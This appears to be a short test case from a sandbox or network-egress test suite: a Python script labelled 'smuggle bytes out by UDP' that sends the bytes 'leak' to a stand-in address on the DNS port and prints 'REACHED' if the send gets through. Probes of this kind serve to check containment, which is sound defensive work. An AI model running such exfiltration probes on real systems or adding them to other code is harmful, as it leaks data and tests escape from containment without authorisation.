# aim: smuggle bytes out by UDP
# expect: any
# control: none
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    try:
        sock.sendto(b"leak", ("192.0.2.1", 53))
        print("REACH" + "ED")
    except OSError:
        pass
